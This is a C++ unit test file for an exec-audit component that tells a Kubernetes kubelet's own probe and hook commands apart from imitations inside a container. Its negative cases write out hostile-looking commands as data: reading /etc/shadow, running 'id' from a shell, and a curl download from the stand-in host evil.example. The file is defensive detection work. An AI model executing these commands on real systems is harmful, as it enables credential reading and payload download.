// The kubelet's own exec probes and hooks against their look-alikes (attribution/kubelet_exec.h).
#include "attribution/kubelet_exec.h"

#include <gtest/gtest.h>

using namespace execaudit::attribution;

namespace {

KubeletSpec spec() {
    KubeletSpec s;
    s.container = "app";
    s.actions = {{"probe", "liveness", {"cat", "/tmp/healthy"}},
                 {"probe", "readiness", {"/bin/sh", "-c", "test -f /tmp/ready && curl -fsS localhost:8080/healthz"}},
                 {"hook", "postStart", {"touch", "/tmp/started"}}};
    s.others = {{"sidecar", {"probe", "liveness", {"/bin/sidecar-check"}}}};
    return s;
}

TEST(KubeletExec, TheProbesOwnArgvWithoutATtyIsTheKubelet) {
    auto j = judge_kubelet_exec(spec(), false, {{"cat", "/tmp/healthy"}}, true);
    EXPECT_TRUE(j.kubelet);
    EXPECT_EQ(j.entered_via, "probe");
    EXPECT_EQ(j.name, "liveness");
    auto hook = judge_kubelet_exec(spec(), false, {{"touch", "/tmp/started"}}, true);
    EXPECT_TRUE(hook.kubelet);
    EXPECT_EQ(hook.entered_via, "hook");
}

TEST(KubeletExec, AShellProbeMayRunWhatItsScriptNames) {
    auto j = judge_kubelet_exec(
        spec(), false,
        {{"/bin/sh", "-c", "test -f /tmp/ready && curl -fsS localhost:8080/healthz"}, {"/usr/bin/curl", "-fsS", "localhost:8080/healthz"}},
        true);
    EXPECT_TRUE(j.kubelet) << j.reason;
}

TEST(KubeletExec, LookAlikesStayFindingsAndSayWhy) {
    auto tty = judge_kubelet_exec(spec(), true, {{"cat", "/tmp/healthy"}}, true);
    EXPECT_FALSE(tty.kubelet);
    EXPECT_NE(tty.reason.find("tty"), std::string::npos);
    auto other_argv = judge_kubelet_exec(spec(), false, {{"cat", "/etc/shadow"}}, true);
    EXPECT_FALSE(other_argv.kubelet);
    EXPECT_EQ(other_argv.reason, "") << "nothing alike: an ordinary finding";
    // a replaced binary, or preloaded code, that execs something the probe's line does not name
    auto more = judge_kubelet_exec(spec(), false, {{"cat", "/tmp/healthy"}, {"/bin/sh", "-c", "id"}}, true);
    EXPECT_FALSE(more.kubelet);
    EXPECT_NE(more.reason.find("does not account for"), std::string::npos) << more.reason;
    // a shell probe whose tree runs a word of its script that is no command there, or other arguments
    std::vector<std::string> probe = {"/bin/sh", "-c", "test -f /tmp/ready && curl -fsS localhost:8080/healthz"};
    EXPECT_FALSE(judge_kubelet_exec(spec(), false, {probe, {"/tmp/ready"}}, true).kubelet);
    EXPECT_FALSE(judge_kubelet_exec(spec(), false, {probe, {"curl", "-o", "/tmp/x", "evil.example"}}, true).kubelet);
    // another container's probe, run here
    auto elsewhere = judge_kubelet_exec(spec(), false, {{"/bin/sidecar-check"}}, true);
    EXPECT_FALSE(elsewhere.kubelet);
    EXPECT_NE(elsewhere.reason.find("container sidecar"), std::string::npos) << elsewhere.reason;
    // lost commands: no run can be vouched for
    EXPECT_FALSE(judge_kubelet_exec(spec(), false, {{"cat", "/tmp/healthy"}}, false).kubelet);
    // the pod's spec is unknown
    auto unknown = judge_kubelet_exec(std::nullopt, false, {{"cat", "/tmp/healthy"}}, true);
    EXPECT_FALSE(unknown.kubelet);
    EXPECT_NE(unknown.reason.find("pod spec unknown"), std::string::npos);
    // a prefix or an extension of the argv is another argv
    EXPECT_FALSE(judge_kubelet_exec(spec(), false, {{"cat", "/tmp/healthy", "/etc/shadow"}}, true).kubelet);
    EXPECT_FALSE(judge_kubelet_exec(spec(), false, {{"cat"}}, true).kubelet);
}

TEST(KubeletExec, ScriptWords) {
    auto w = shell_script_words({"sh", "-c", "a b; c 'd e' | f && exec g h"});
    ASSERT_TRUE(w);
    EXPECT_TRUE(w->commands.contains("a"));
    EXPECT_FALSE(w->commands.contains("b"));
    EXPECT_TRUE(w->commands.contains("c"));
    EXPECT_TRUE(w->words.contains("d e"));
    EXPECT_TRUE(w->commands.contains("f"));
    EXPECT_TRUE(w->commands.contains("g"));
    EXPECT_FALSE(w->commands.contains("h"));
    EXPECT_FALSE(shell_script_words({"python3", "-c", "print(1)"}));
}

}  // namespace
